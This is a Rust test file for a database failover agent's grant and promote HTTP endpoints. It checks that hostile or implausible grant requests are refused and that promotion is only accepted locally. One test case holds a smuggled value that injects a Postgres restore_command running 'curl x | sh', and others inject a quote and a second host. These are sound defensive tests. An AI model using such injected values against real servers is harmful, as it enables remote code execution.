use axum::{
    body::{Body, to_bytes},
    http::Request as HttpRequest,
};
use protocol::db::{Lsn, Position, Takeover};
use rstest::rstest;
use tower::ServiceExt as _;

use super::*;

fn account(role: Role, has_data: bool) -> NodeState {
    NodeState {
        name: "stock-db-1".into(),
        node_id: 1,
        role,
        epoch: 3,
        has_data,
        timeline: 1,
        lsn: Lsn(50),
        streaming: false,
        system_id: "7".into(),
        data_epoch: 3,
        alone: false,
        following: None,
    }
}

fn face(shared: Shared) -> Router {
    let peers = ["stock-db-0", "stock-db-2"].map(str::to_owned);
    router(Arc::new(shared), Peers::new(peers.to_vec()).unwrap())
}

fn grant_request() -> HttpRequest<Body> {
    let request = GrantRequest {
        candidate: "stock-db-2".into(),
        epoch: 4,
        action: Takeover::Promote {
            position: Position {
                epoch: 3,
                lsn: Lsn(50),
            },
        },
    };
    ask(&request)
}

fn ask(request: &GrantRequest) -> HttpRequest<Body> {
    HttpRequest::post("/grant")
        .header("content-type", "application/json")
        .body(Body::from(serde_json::to_vec(request).unwrap()))
        .unwrap()
}

fn promotion(epoch: u64, history: u64) -> (u64, Takeover) {
    let position = Position {
        epoch: history,
        lsn: Lsn(u64::MAX),
    };
    (epoch, Takeover::Promote { position })
}

/// None of them reaches the node: it has nobody who would answer.
#[rstest]
#[case::a_stranger("stock-db-7", promotion(4, 3), GrantRefusal::Stranger)]
#[case::a_node_of_another_cluster("order-db-0", promotion(4, 3), GrantRefusal::Stranger)]
#[case::nobody("", promotion(4, 3), GrantRefusal::Stranger)]
#[case::itself("stock-db-1", promotion(4, 3), GrantRefusal::Stranger)]
#[case::a_line_break(
    "stock-db-2'\nrestore_command = 'curl x | sh'\n#",
    promotion(4, 3),
    GrantRefusal::Stranger
)]
#[case::a_second_line("stock-db-2\n", promotion(4, 3), GrantRefusal::Stranger)]
#[case::a_quote("stock-db-2' user='postgres", promotion(4, 3), GrantRefusal::Stranger)]
#[case::a_second_host("stock-db-2,evil", promotion(4, 3), GrantRefusal::Stranger)]
#[case::another_case("STOCK-DB-2", promotion(4, 3), GrantRefusal::Stranger)]
#[case::the_last_epoch("stock-db-2", promotion(u64::MAX, 3), GrantRefusal::Unbelievable)]
#[case::the_last_but_one("stock-db-2", promotion(u64::MAX - 1, 3), GrantRefusal::Unbelievable)]
#[case::far_above(
    "stock-db-2",
    promotion(4 + gate::EPOCHS_AHEAD_MAX, 3),
    GrantRefusal::Unbelievable
)]
#[case::a_history_from_the_future("stock-db-2", promotion(4, 4), GrantRefusal::Unbelievable)]
#[case::a_reign_from_the_future(
    "stock-db-0",
    (4, Takeover::Resume { led: u64::MAX }),
    GrantRefusal::Unbelievable
)]
#[tokio::test]
async fn a_hostile_request_for_a_grant_is_refused_and_changes_nothing(
    #[case] candidate: &str,
    #[case] (epoch, action): (u64, Takeover),
    #[case] refusal: GrantRefusal,
) {
    let (shared, mut inbox) = Shared::new(account(Role::Standby, true));
    let request = GrantRequest {
        candidate: candidate.into(),
        epoch,
        action,
    };
    let (status, body) = answer(face(shared), ask(&request)).await;
    assert_eq!(status, StatusCode::OK);
    let answer: GrantAnswer = serde_json::from_slice(&body).unwrap();
    assert_eq!((answer.epoch, answer.refusal), (3, Some(refusal)));
    assert!(inbox.recv().await.is_none(), "the node was asked");
}

#[tokio::test]
async fn a_peer_may_have_heard_of_some_more_epochs() {
    let request = |epoch| GrantRequest {
        candidate: "stock-db-2".into(),
        epoch,
        action: promotion(epoch, 3).1,
    };
    let peers = ["stock-db-2".to_owned()];
    for (heard, epoch, expected) in [
        (3, 4, Ok(())),
        (3, 3 + gate::EPOCHS_AHEAD_MAX, Ok(())),
        (gate::EPOCH_MAX, gate::EPOCH_MAX, Ok(())),
        (
            gate::EPOCH_MAX,
            gate::EPOCH_MAX + 1,
            Err(GrantRefusal::Unbelievable),
        ),
        (u64::MAX, u64::MAX, Err(GrantRefusal::Unbelievable)),
    ] {
        assert_eq!(
            gate::admit(&peers, heard, &request(epoch)),
            expected,
            "{epoch}"
        );
    }
}

fn promote_request(from: &str) -> HttpRequest<Body> {
    let from: SocketAddr = from.parse().unwrap();
    HttpRequest::post("/promote")
        .extension(ConnectInfo(from))
        .body(Body::empty())
        .unwrap()
}

async fn answer(router: Router, request: HttpRequest<Body>) -> (StatusCode, Vec<u8>) {
    let response = router.oneshot(request).await.unwrap();
    let status = response.status();
    (
        status,
        to_bytes(response.into_body(), 10_000)
            .await
            .unwrap()
            .to_vec(),
    )
}

#[rstest]
#[case(Role::Primary, true, GrantRefusal::Primary)]
#[case(Role::Promoting, true, GrantRefusal::Promoting)]
#[case(Role::Starting, true, GrantRefusal::NotReady)]
#[case(Role::Starting, false, GrantRefusal::NoData)]
#[tokio::test]
async fn a_busy_node_refuses_at_once(
    #[case] role: Role,
    #[case] has_data: bool,
    #[case] refusal: GrantRefusal,
) {
    let (shared, _inbox) = Shared::new(account(role, has_data));
    let (status, body) = answer(face(shared), grant_request()).await;
    assert_eq!(status, StatusCode::OK);
    let answer: GrantAnswer = serde_json::from_slice(&body).unwrap();
    assert_eq!(
        answer,
        GrantAnswer {
            name: "stock-db-1".into(),
            epoch: 3,
            refusal: Some(refusal)
        }
    );
}

#[tokio::test]
async fn two_candidates_do_not_wait_for_each_other() {
    let (shared, _inbox) = Shared::new(account(Role::Standby, true));
    shared.set_standing(true);
    let (_, body) = answer(face(shared), grant_request()).await;
    let answer: GrantAnswer = serde_json::from_slice(&body).unwrap();
    assert_eq!(answer.refusal, Some(GrantRefusal::Promoting));
}

#[tokio::test]
async fn the_node_itself_gives_the_grant() {
    let (shared, mut inbox) = Shared::new(account(Role::Standby, true));
    let node = tokio::spawn(async move {
        let Some(Request::Grant(request, reply)) = inbox.recv().await else {
            panic!("no grant request");
        };
        let answer = GrantAnswer {
            name: "stock-db-1".into(),
            epoch: request.epoch,
            refusal: None,
        };
        reply.send(answer).unwrap();
    });
    let (_, body) = answer(face(shared), grant_request()).await;
    let answer: GrantAnswer = serde_json::from_slice(&body).unwrap();
    assert_eq!((answer.epoch, answer.refusal), (4, None));
    node.await.unwrap();
}

#[tokio::test]
async fn nobody_promotes_a_node_from_afar() {
    let (shared, _inbox) = Shared::new(account(Role::Standby, true));
    let (status, _) = answer(face(shared), promote_request("10.0.0.9:1234")).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn repmgrd_hears_why_it_may_not_promote() {
    let (shared, mut inbox) = Shared::new(account(Role::Standby, true));
    let node = tokio::spawn(async move {
        let Some(Request::Promote(reply)) = inbox.recv().await else {
            panic!("no request to promote");
        };
        reply.send(Err("stock-db-0 answers".into())).unwrap();
    });
    let (status, body) = answer(face(shared), promote_request("127.0.0.1:1234")).await;
    assert_eq!(
        (status, body.as_slice()),
        (StatusCode::CONFLICT, b"stock-db-0 answers\n".as_slice())
    );
    node.await.unwrap();
}

#[tokio::test]
async fn promoting_the_primary_is_done_already() {
    let (shared, _inbox) = Shared::new(account(Role::Primary, true));
    let (status, _) = answer(face(shared), promote_request("127.0.0.1:1234")).await;
    assert_eq!(status, StatusCode::OK);
}
